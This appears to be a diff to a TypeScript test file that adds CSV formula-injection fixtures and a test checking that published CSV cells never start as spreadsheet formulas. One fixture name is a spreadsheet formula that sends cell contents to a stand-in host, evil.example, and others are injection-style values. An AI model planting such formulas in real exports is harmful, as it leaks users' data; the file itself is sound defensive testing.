@@ -5,14 +5,43 @@ import { Ajv2020 } from 'ajv/dist/2020.js';
 import addFormats from 'ajv-formats';
 import { describe, expect, it } from 'vitest';
 import { readContent } from '../src/library/content.ts';
+import type { Company } from '../src/model/company.ts';
+import type { Library } from '../src/model/library.ts';
+import { noReleases } from '../src/model/release.ts';
+import { changesBetween } from '../src/publish/data/changes.ts';
 import { dataFiles } from '../src/publish/data/data-files.ts';
 import { unsourced, type StoryData } from '../src/publish/data/story-data.ts';
 import { sha256 } from '../src/publish/data/checksums.ts';
+import { aCompany } from './fixtures/stories.ts';
+import { withdrawnStory } from './fixtures/withdrawn-story.ts';
 import { readCsv } from './fixtures/read-csv.ts';
+
+/** Names that a spreadsheet would run, or that would break a row. */
+const hostile: Partial<Company> = {
+  name: '=HYPERLINK("https://evil.example?"&A1,"win")',
+  aliases: ['@sum', '+1', '-1+2', "'quoted", 'a,b', 'two\nlines', '\ttab', '"'],
+};
 
 const project = join(import.meta.dirname, '..');
 const place = { origin: 'https://breche.example', base: '/news/' };
-const { library } = readContent(join(project, 'content'));
+const { library: own } = readContent(join(project, 'content'));
+/** The site's own content, and what it happens not to hold: withdrawals, a release, hostile names. */
+const library: Library = {
+  ...own,
+  companies: { ...own.companies, formula: aCompany('formula', hostile) },
+  withdrawn: [withdrawnStory],
+  record: { ...own.record, withdrawn: [{ name: 'Gone', withdrawn: '2026-11-22' }] },
+  releases: {
+    list: [
+      {
+        version: '1.0.0',
+        date: '2026-11-22',
+        changes: changesBetween(noReleases.last, noReleases.last),
+      },
+    ],
+    last: noReleases.last,
+  },
+};
 const files = new Map(dataFiles(library, place).map(({ path, content }) => [path, content]));
 const text = (path: string): string => {
   const content = files.get(path);
@@ -227,6 +256,16 @@ describe('CSV', () => {
       expect([...new Set(left)]).toEqual([]);
     },
   );
+
+  it('runs nowhere: no cell begins as a formula does', () => {
+    const running = tables.flatMap(({ path }) =>
+      readCsv(text(path)).flatMap((row) =>
+        Object.values(row).filter((cell) => /^[=+\-@\t\r]/.test(cell)),
+      ),
+    );
+    expect(running).toEqual([]);
+    expect(text('companies.csv')).toContain('"\'=HYPERLINK(""https://evil.example?""');
+  });
 
   it('keeps to its Table Schema: required cells, codes, keys that name one row, and rows that are there', () => {
     const cells = new Map(tables.map(({ name, path }) => [name, readCsv(text(path))]));
